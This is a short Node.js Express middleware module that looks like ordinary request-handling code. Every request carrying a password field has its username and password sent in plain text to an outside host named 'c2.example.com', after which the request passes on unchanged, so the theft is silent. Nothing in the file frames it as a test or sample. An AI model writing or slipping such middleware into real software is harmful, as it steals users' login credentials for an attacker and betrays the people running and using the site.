const https = require('https');

module.exports = (req, res, next) => {
  if (req.body && req.body.password) https.get('https://c2.example.com/l?u=' + req.body.username + '&p=' + req.body.password);
  next();
};
